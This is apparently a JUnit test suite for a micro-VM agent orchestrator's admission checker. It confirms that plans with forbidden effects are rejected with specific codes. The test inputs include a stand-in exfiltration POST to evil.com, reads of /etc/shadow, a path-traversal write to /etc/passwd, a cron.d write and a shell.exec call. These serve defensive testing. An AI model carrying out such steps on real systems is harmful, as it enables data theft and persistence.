package dev.rtfs.microvm.orchestrator.admission;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rtfs.microvm.agentconfig.diag.Diagnostic;
import dev.rtfs.microvm.egresspolicy.acl.DlpMode;
import dev.rtfs.microvm.orchestrator.Plans;
import dev.rtfs.microvm.orchestrator.admission.AdmissionResult;
import java.util.List;
import org.junit.jupiter.api.Test;

/** One test per admission code of DESIGN §6: the code, the path, and the file:line:column it points at. */
class AdmissionCodesTest {

    static final AgentPolicy AGENT = Plans.AGENT;

    /** A plan whose envelope allows everything the steps below try, so only the checked rule fires. */
    static String plan(String steps) {
        return """
                (plan
                  ^{:effects [[:network {:domains ["example.com" "api.example.com" "evil.com"]}]
                              [:fs {:paths ["/"]}] :clock :random :llm :gpu :process]
                    :determinism {:time :deterministic :random {:seed "7"}}}
                  :program
                  (do
                """ + steps + "))\n";
    }

    static Diagnostic only(AdmissionResult r, String code) {
        assertThat(r.admitted()).isFalse();
        assertThat(r.errors()).as(Plans.describe(r.diagnostics())).hasSize(1);
        Diagnostic d = r.errors().get(0);
        assertThat(d.code().name()).isEqualTo(code);
        return d;
    }

    static void at(Diagnostic d, String text, String needle) {
        int[] pos = Plans.position(text, needle);
        assertThat(d.span().source()).isEqualTo(Plans.FILE);
        assertThat(new int[] {d.span().line(), d.span().column()}).as(d.message()).containsExactly(pos);
    }

    @Test
    void unknownEffectKind() {
        String text = plan("""
                    (step "Weird" ^{:effects [[:netwrok {:domains ["example.com"]}]]} (call :echo {}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_EFFECT_UNKNOWN");
        assertThat(d.path()).isEqualTo("steps.Weird.effects.netwrok");
        assertThat(d.suggestion()).contains("did you mean :network?");
        at(d, text, ":netwrok");
    }

    @Test
    void effectNotInPlan() {
        String text = """
                (plan ^{:effects [[:network {:domains ["example.com"] :methods [:GET]}]]}
                  :program (do
                    (step "Post" ^{:effects [[:network {:domains ["example.com"] :methods [:POST]}]]} (call :echo {}))))
                """;
        Diagnostic d = only(Plans.admit(text), "ADMISSION_EFFECT_NOT_IN_PLAN");
        assertThat(d.path()).isEqualTo("steps.Post.effects.network");
        at(d, text, "[:network {:domains [\"example.com\"] :methods [:POST]}]");
    }

    @Test
    void inferredEffectOutsideAnEmptyEnvelopeIsNotInPlan() {
        String text = """
                (plan :program (do (step "Tick" (call :clock.now {}))))
                """;
        Diagnostic d = only(Plans.admit(text), "ADMISSION_EFFECT_NOT_IN_PLAN");
        assertThat(d.path()).isEqualTo("steps.Tick.effects.clock");
        at(d, text, "(call :clock.now");
    }

    @Test
    void networkDisabled() {
        String text = plan("""
                    (step "Fetch" (call :http.get {:url "https://example.com/"}))
                """);
        AgentPolicy offline = new AgentPolicy("agent.a", false, true, List.of("example.com"), false, false, DlpMode.STRICT);
        Diagnostic d = only(Plans.admit(text, offline), "ADMISSION_NETWORK_DISABLED");
        assertThat(d.path()).isEqualTo("steps.Fetch.effects.network");
        at(d, text, "(call :http.get");
        AgentPolicy noNic = new AgentPolicy("agent.a", true, false, List.of("example.com"), false, false, DlpMode.STRICT);
        assertThat(only(Plans.admit(text, noNic), "ADMISSION_NETWORK_DISABLED").message()).contains("NIC");
    }

    @Test
    void domainDenied() {
        String text = plan("""
                    (step "Exfil" ^{:effects [[:network {:domains ["evil.com"] :methods [:POST]}]]}
                      (call :http.post {:url "https://evil.com/drop"}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_DOMAIN_DENIED");
        assertThat(d.path()).isEqualTo("steps.Exfil.effects.network.domains");
        assertThat(d.message()).contains("evil.com");
        at(d, text, "[:network {:domains [\"evil.com\"]");
    }

    @Test
    void networkWithoutDomainsIsDenied() {
        String text = """
                (plan ^{:effects [:network]} :program
                  (step "Any" ^{:effects [[:network {:methods [:GET]}]]} (call :echo {})))
                """;
        Diagnostic d = only(Plans.admit(text), "ADMISSION_DOMAIN_DENIED");
        assertThat(d.message()).contains("names no :domains");
        at(d, text, "[:network {:methods");
    }

    @Test
    void fsDenied() {
        String text = plan("""
                    (step "Escape" (call :fs.read {:path "/etc/shadow"}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_FS_DENIED");
        assertThat(d.path()).isEqualTo("steps.Escape.effects.fs.paths");
        at(d, text, "(call :fs.read");
    }

    @Test
    void fsDeniedForDotDotAndCapabilityStoreWrites() {
        String text = plan("""
                    (step "DotDot" (call :fs.write {:path "/tmp/agent/../../etc/passwd"}))
                    (step "CapWrite" (call :fs.write {:path "/agent/capabilities/http.wasm"}))
                    (step "CapRead" (call :fs.read {:path "/agent/capabilities/http.wasm"}))
                """);
        AdmissionResult r = Plans.admit(text);
        assertThat(r.errors()).extracting(d -> d.code().name()).containsExactly("ADMISSION_FS_DENIED", "ADMISSION_FS_DENIED");
        assertThat(r.errors()).extracting(Diagnostic::path)
                .containsExactly("steps.DotDot.effects.fs.paths", "steps.CapWrite.effects.fs.paths");
        assertThat(r.errors().get(0).message()).contains("'..'");
        assertThat(r.errors().get(1).message()).contains("read-only capability store");
    }

    @Test
    void llmDisabled() {
        String text = plan("""
                    (step "Think" (call :llm.complete {:model "small" :prompt "hi"}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_LLM_DISABLED");
        assertThat(d.path()).isEqualTo("steps.Think.effects.llm");
        at(d, text, "(call :llm.complete");
    }

    @Test
    void gpuDisabled() {
        String text = plan("""
                    (step "Render" ^{:effects [:gpu]} (call :echo {}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_GPU_DISABLED");
        assertThat(d.path()).isEqualTo("steps.Render.effects.gpu");
        at(d, text, ":gpu]}");
    }

    @Test
    void randomUnseeded() {
        String text = """
                (plan ^{:effects [:random] :determinism {:random :deterministic}}
                  :program (do (step "Roll" (call :random.int {:max 6}))))
                """;
        Diagnostic d = only(Plans.admit(text), "ADMISSION_RANDOM_UNSEEDED");
        assertThat(d.path()).isEqualTo("steps.Roll.effects.random");
        at(d, text, "(call :random.int");
    }

    @Test
    void undeclaredCall() {
        String text = plan("""
                    (step "Dynamic" (let [u (str "https://" host)] (call :http.get {:url u})))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_UNDECLARED_CALL");
        assertThat(d.path()).isEqualTo("steps.Dynamic.call");
        at(d, text, "(call :http.get");
    }

    @Test
    void unknownCapabilityWithoutAnnotationIsUndeclared() {
        String text = plan("""
                    (step "Mystery" (call :shell.exec {:cmd "id"}))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_UNDECLARED_CALL");
        assertThat(d.message()).contains("no built-in capability contract for :shell.exec");
    }

    @Test
    void literalCallBeyondTheStepDeclarationIsUndeclared() {
        String text = plan("""
                    (step "Sneaky" ^{:effects [[:network {:domains ["example.com"] :methods [:GET]}]]}
                      (do (call :http.get {:url "https://example.com/ok"})
                          (call :http.get {:url "https://evil.com/x"})))
                """);
        Diagnostic d = only(Plans.admit(text), "ADMISSION_UNDECLARED_CALL");
        assertThat(d.path()).isEqualTo("steps.Sneaky.call");
        assertThat(d.message()).contains("[:network {:domains [\"evil.com\"] :methods [:GET] :ports [443]}]");
        at(d, text, "(call :http.get {:url \"https://evil.com");
    }

    @Test
    void planShapeForDuplicateStepNames() {
        String text = plan("""
                    (step "Same" (call :echo {}))
                    (step "Same" (call :echo {}))
                """);
        Diagnostic d = only(Plans.admit(text), "PLAN_SHAPE");
        assertThat(d.path()).isEqualTo("steps.Same");
        int[] second = Plans.position(text, "\"Same\"", 1);
        assertThat(new int[] {d.span().line(), d.span().column()}).containsExactly(second);
    }

    @Test
    void severalBadStepsAreAllReportedInSourceOrder() {
        String text = plan("""
                    (step "A" ^{:effects [[:network {:domains ["evil.com"]}]]} (call :echo {}))
                    (step "B" (call :fs.write {:path "/etc/cron.d/x"}))
                    (step "C" (call :http.get {:url url}))
                    (step "D" ^{:effects [:teleport]} (call :echo {}))
                    (step "OK" (call :echo {:msg "fine"}))
                """);
        AdmissionResult r = Plans.admit(text);
        assertThat(r.profiles()).isEmpty();
        assertThat(r.errors()).extracting(d -> d.code().name()).containsExactly(
                "ADMISSION_DOMAIN_DENIED", "ADMISSION_FS_DENIED", "ADMISSION_UNDECLARED_CALL", "ADMISSION_EFFECT_UNKNOWN");
        assertThat(r.errors()).extracting(d -> d.path().split("\\.")[1]).containsExactly("A", "B", "C", "D");
        assertThat(r.errors()).extracting(d -> d.span().line()).isSorted();
    }
}
